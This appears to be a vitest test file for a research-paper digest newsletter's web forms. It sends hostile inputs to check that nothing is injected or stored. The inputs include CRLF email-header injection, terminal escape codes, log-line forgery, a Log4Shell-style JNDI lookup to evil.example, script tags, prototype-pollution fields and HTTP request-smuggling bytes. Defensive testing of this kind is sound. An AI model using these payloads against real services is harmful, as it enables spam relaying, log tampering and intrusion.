import { connect } from 'node:net'
import { beforeEach, describe, expect, test } from 'vitest'
import { send } from '../../../src/outbox/send.ts'
import { findPaper } from '../../../src/papers/store.ts'
import { unsubscribeSubscriber } from '../../../src/subscribers/account-store.ts'
import type { Subscriber } from '../../../src/subscribers/store.ts'
import { serveWeb } from '../../../src/web/web.ts'
import { endOf, publishPapers, rawPaper } from '../../support/builders.ts'
import { useDatabase } from '../../support/database.ts'
import { useOutbox } from '../../support/outbox.ts'
import { freePort } from '../../support/ports.ts'
import {
  addChange,
  addSubscriber,
  dump,
  mailDay,
  pathTo,
  posted,
  queuedMails,
  readableLog,
  subscriberOf,
  testWeb,
  withoutOurScript,
} from '../../support/web.ts'

const db = useDatabase()
const given = useOutbox(db)
const { log, lines } = readableLog()
const pages = testWeb(db, { log })
const address = 'ada@example.org'
let reader: Subscriber
let paperId: number
beforeEach(async () => {
  lines.length = 0
  await publishPapers(db, mailDay, [rawPaper({ source: 'hostile', externalId: '1', title: 'Of transformers' })])
  reader = await addSubscriber(db, address)
  paperId = (await findPaper(db, 'hostile', '1'))?.id ?? 0
})

/** What somebody types who wants to write headers, lines of the log, or to a terminal. */
const hostile = [
  'transformers\r\nBcc: victim@example.net',
  'transformers\nBcc: victim@example.net\n\nbody',
  'transformers\rBcc: victim@example.net',
  'transformers%0d%0aBcc: victim@example.net',
  'transformers\u0000Bcc: victim@example.net',
  'transformers\u2028Bcc: victim@example.net\u0085X-Injected: 1',
  'transformers\u001b[2J\u001b]0;owned\u0007\u009b31m',
  '=?utf-8?q?transformers=0D=0ABcc:_victim@example.net?=',
  'transformers\ud800\udfff\udc00',
  '{"level":60,"msg":"made up"}\n{"level":60}',
  '$\u007bjndi:ldap://evil.example/a} %s %n {{7*7}} {% raw %} <script>alert(1)</script>',
]

const choices = {
  topic: 'cs.CL',
  keywords: 'x',
  avoid: 'x',
  authors: 'x',
  size: '10',
  abstracts: 'lead',
  format: 'html',
  cadence: 'weekly',
  weekday: '1',
  hour: '8',
  zone: 'UTC',
  find: 'x',
  do: 'save',
}

/** Every form that takes anything, with what an honest person would send. */
const forms: [string, () => string, Record<string, string>][] = [
  ['subscribing', () => '/subscribe', { email: 'emmy@example.org', website: '' }],
  ['a lost link', () => '/lost-link', { email: address, website: '' }],
  ['the choices', () => pathTo('manage', reader), choices],
  ['the preview', () => pathTo('manage', reader), { ...choices, do: 'preview' }],
  ['a pause', () => pathTo('manage', reader), { pause: 'until', until: `${new Date().getUTCFullYear() + 1}-01-04` }],
  ['moving', () => `${pathTo('manage', reader)}/move`, { email: 'emmy@example.org' }],
  ['an opinion', () => `${pathTo('list', reader)}/${paperId}`, { say: 'saved' }],
  ['the reading list', () => pathTo('list', reader), { remove: '1' }],
  ['why somebody left', () => `${pathTo('unsubscribe', reader)}/reason`, { reason: 'other', words: 'x' }],
]

/** All that is kept of people, as text. */
const kept = async () => JSON.stringify(await dump(db))

describe.each(forms)('the form for %s', (_, path, honest) => {
  const fields = Object.keys(honest)

  test.each(fields)(
    'takes nothing in “%s” that becomes a header, a line of the log, or a fault of ours',
    async (field) => {
      for (const text of hostile) {
        const before = await kept()
        const response = await pages.request(path(), posted({ ...honest, [field]: text }))
        expect([text, response.status]).toEqual([text, expect.toSatisfy((status) => status >= 200 && status < 500)])
        const html = await response.text()
        expect(withoutOurScript(html)).not.toContain('<script')
        expect([...response.headers].flat().join('\n')).not.toMatch(/Bcc|Injected/i)
        if (response.status >= 400) expect(await kept()).toBe(before)
      }
      expect(lines).toEqual([])
      // Nothing that controls a terminal or ends a line is kept anywhere; blanks stand in its place.
      const { rows } = await db.query(
        `SELECT concat(s::text, d.all) ~ '[\\u0001-\\u001f\\u007f-\\u009f]' AS bad FROM subscribers s,
        (SELECT string_agg(concat(address, reason), '') AS all FROM deliveries) d`,
      )
      expect(rows.filter((row) => row['bad'])).toEqual([])
      expect((await queuedMails(db)).filter((mail) => mail.includes('victim'))).toEqual([])
    },
  )

  test('of ten megabytes is refused with a page that says so, and nothing changes', async () => {
    const before = await kept()
    for (const field of fields.slice(0, 1)) {
      const response = await pages.request(path(), posted({ ...honest, [field]: 'x'.repeat(10_000_000) }))
      expect(response.status).toBe(413)
      expect(await response.text()).toContain('That is too much')
    }
    expect(await kept()).toBe(before)
  })

  test.each<[string, RequestInit]>([
    ['without a body', {}],
    ['of JSON', { headers: { 'Content-Type': 'application/json' }, body: '{"email":"emmy@example.org"}' }],
    ['of plain text', { headers: { 'Content-Type': 'text/plain' }, body: 'email=emmy@example.org' }],
    ['of a content type that is none', { headers: { 'Content-Type': ';;;' }, body: 'email=emmy@example.org' }],
    ['of a multipart body without a boundary', { headers: { 'Content-Type': 'multipart/form-data' }, body: 'x' }],
    ['of a broken multipart body', { headers: { 'Content-Type': 'multipart/form-data; boundary=x' }, body: '--x\r\n' }],
    [
      'with names of the prototype',
      posted({
        __proto__: 'x',
        constructor: 'x',
        toString: 'x',
        hasOwnProperty: 'x',
        '__proto__[email]': 'x',
        'email.constructor': 'x',
      }),
    ],
    [
      'with broken percent codes',
      {
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: 'email=%E0%A4%A&%=%&size=%zz&words=%ff%fe',
      },
    ],
    [
      'with ten thousand fields',
      posted(Object.fromEntries(Array.from({ length: 10_000 }, (_, index) => [`f${index}`, 'x']))),
    ],
  ])('%s is answered clearly, is no fault of ours, and changes nothing', async (__, request) => {
    const before = await kept()
    const response = await pages.request(path(), { method: 'POST', ...request })
    expect(response.status).toBeLessThan(500)
    expect(response.headers.get('Content-Type')).toContain('text/html')
    expect(await response.text()).toContain('<h1')
    expect(await kept()).toBe(before)
    expect(lines).toEqual([])
  })

  test.each(fields)('with “%s” several times, as a file, missing or very long is no fault of ours', async (field) => {
    const { [field]: _one, ...rest } = honest
    const file = new FormData()
    for (const [name, value] of Object.entries(rest)) file.set(name, value)
    file.set(field, new File(['\r\nBcc: victim@example.net'], 'a"\r\nBcc: b.txt'))
    const requests = [
      posted({ ...rest, [field]: [honest[field] ?? '', 'emmy@example.org', 'x'] }),
      posted({ ...rest, [`${field}[]`]: 'x' }),
      posted(rest),
      posted({ ...rest, [field]: 'x'.repeat(100_000) }),
      { method: 'POST', body: file },
    ]
    for (const request of requests) expect((await pages.request(path(), request)).status).toBeLessThan(500)
    expect(lines).toEqual([])
  })
})

describe('a form for an address', () => {
  test.each(forms.slice(0, 2))(
    'for %s refuses an address with a header in it, shows it again and keeps nothing',
    async (_, path) => {
      const before = await kept()
      for (const text of hostile.map((one) => `ada@example.org${one}`)) {
        const response = await pages.request(path(), posted({ email: text, website: '' }))
        expect([text, response.status]).toEqual([text, 400])
        expect(await response.text()).toContain('role="alert"')
      }
      expect(await kept()).toBe(before)
    },
  )
})

test('a reader’s interests with headers in them reach their digest as words and nothing else', async () => {
  const typed = hostile.join('\n')
  const saved = await pages.request(
    pathTo('manage', reader),
    posted({ ...choices, topic: [], cadence: 'daily', keywords: typed, authors: typed }),
  )
  expect(saved.status).toBe(200)
  await db.query(`UPDATE subscribers SET next_digest_at = 'epoch', read_up_to = NULL`)
  await send(given.outbox, endOf(mailDay))
  const [mail] = given.receiver.to(address)
  expect(mail?.to).toEqual([address])
  const head = String(mail?.raw ?? '').split('\r\n\r\n')[0] ?? ''
  expect(head.split('\r\n').filter((line) => /^(bcc|x-injected)/i.test(line))).toEqual([])
  expect(head).toMatch(/^Subject: /m)
})

test('why somebody left is kept as one line', async () => {
  await unsubscribeSubscriber(db, reader.publicId)
  await pages.request(`${pathTo('unsubscribe', reader)}/reason`, posted({ words: 'too\r\nmany\u0000\u001b[2J mails' }))
  expect((await db.query('SELECT words FROM unsubscribe_reasons')).rows).toEqual([{ words: 'too many [2J mails' }])
})

test('a press that needs no form reads none: ten megabytes do it no harm', async () => {
  const pending = await addSubscriber(db, 'pending@example.org', 'pending')
  const change = await addChange(db, reader, 'next@example.org')
  const body = new URLSearchParams({ x: 'x'.repeat(10_000_000) })
  for (const path of [
    pathTo('confirm', pending),
    pathTo('move-from', change),
    pathTo('move', change),
    pathTo('unsubscribe', reader),
  ])
    expect((await pages.request(path, { method: 'POST', body })).status).toBe(200)
  expect((await subscriberOf(db, 'pending@example.org')).state).toBe('active')
})

describe('over a real connection', () => {
  /** What the server answers to these bytes, up to the end of the connection or a second of silence. */
  function answerTo(port: number, bytes: string): Promise<string> {
    return new Promise((resolve) => {
      let answer = ''
      const socket = connect(port, '127.0.0.1', () => socket.write(bytes))
      socket.setTimeout(1_000, () => socket.destroy())
      socket.on('data', (data) => {
        answer += data
      })
      socket.on('error', () => undefined)
      socket.on('close', () => resolve(answer))
    })
  }

  test('ten megabytes are refused before they have been read, and broken requests end none but their own connection', async () => {
    const port = await freePort()
    const server = await serveWeb(pages, { host: '127.0.0.1', port })
    try {
      const head = (more: string) =>
        `POST /subscribe HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n${more}\r\n`
      const [large, endless, smuggled, nul] = await Promise.all([
        answerTo(port, `${head('Content-Length: 10000000\r\n')}email=ada`),
        answerTo(port, `${head('Transfer-Encoding: chunked\r\n')}zz\r\nemail=ada`),
        answerTo(
          port,
          `${head('Content-Length: 5\r\nTransfer-Encoding: chunked\r\n')}0\r\n\r\nGET /x HTTP/1.1\r\n\r\n`,
        ),
        answerTo(port, head('X-Odd: a\u0000b\r\n')),
      ])
      expect(large).toMatch(/^HTTP\/1.1 413 /)
      for (const answer of [endless, smuggled, nul]) expect(answer).toMatch(/^(HTTP\/1.1 400 |$)/)
      expect((await fetch(`http://127.0.0.1:${port}/healthz`)).status).toBe(200)
    } finally {
      await server.close()
    }
  })
})
